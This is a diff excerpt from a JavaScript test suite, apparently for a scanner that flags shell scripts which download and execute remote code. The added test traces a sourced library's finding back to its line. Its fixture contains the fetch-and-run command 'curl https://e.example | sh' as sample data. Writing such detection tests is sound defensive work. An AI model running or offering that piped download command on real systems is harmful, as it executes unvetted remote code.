@@ -549,6 +549,14 @@ setup: all \\
     expect(found(files)).toEqual([
       ["by-hand-download", "b.sh", 3, "Runs what `https://e.example` answers."],
     ]);
+    const library = {
+      "a.sh": "#!/bin/sh\n. ./lib\n",
+      "b.sh": "#!/bin/sh\n. ./lib\n",
+      lib: "curl https://e.example | sh\n",
+    };
+    expect(found(library)).toMatchObject([
+      ["by-hand-download", "a.sh", 1, expect.stringContaining("in line 1 of `lib`")],
+    ]);
   });
 
   it("is shown at its line in parentheses and substitutions", () => {
